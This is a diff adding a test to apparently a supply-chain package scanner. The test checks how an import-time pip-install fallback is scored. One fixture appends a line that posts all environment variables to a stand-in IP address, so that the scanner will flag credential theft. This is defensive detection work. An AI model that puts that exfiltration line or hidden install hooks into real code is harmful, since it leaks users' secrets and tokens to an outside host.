@@ -165,3 +165,31 @@ def test_the_release_diff_scores_what_the_release_adds(tmp_path):
     assert doc["risk"]["added"]["level"] in ("high", "critical")
     chain = next(t for t in doc["threats"]["new"] if t["id"] == "chain.download_execute")
     assert chain["added"] is True
+
+
+PIP_FALLBACK = b"""import subprocess, sys
+
+try:
+    import pysqlite3
+except ImportError:
+    subprocess.check_call([sys.executable, "-m", "pip", "install", "pysqlite3-binary"])
+    import pysqlite3
+"""
+
+
+def test_one_pip_fallback_named_twice_does_not_corroborate_itself(tmp_path):
+    """chromadb's __init__ pip-installs pysqlite3-binary when its import fails: one act that
+    is both place.dependency_pull and place.import_time. In a big package that is medium;
+    a second act of its own (the environment posted out) still makes it high."""
+    res = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/__init__.py": PIP_FALLBACK})
+    pulls = {t.id: t.severity for t in res.threats}
+    assert pulls == {"place.dependency_pull": "medium", "place.import_time": "medium"}
+    assert res.risk.level == "medium"
+    small = _scan(tmp_path, 3, {"kit/__init__.py": PIP_FALLBACK}, sub="small")
+    assert _threat(small, "place.dependency_pull").severity in ("high", "critical")
+    thief = PIP_FALLBACK + (
+        b"import os, requests\nrequests.post('https://203.0.113.9/c', json=dict(os.environ))\n"
+    )
+    big = _scan(tmp_path, LARGE_PACKAGE + 5, {"kit/__init__.py": thief}, sub="thief")
+    assert big.risk.level in ("high", "critical")
+    assert _threat(big, "place.dependency_pull").severity in ("high", "critical")
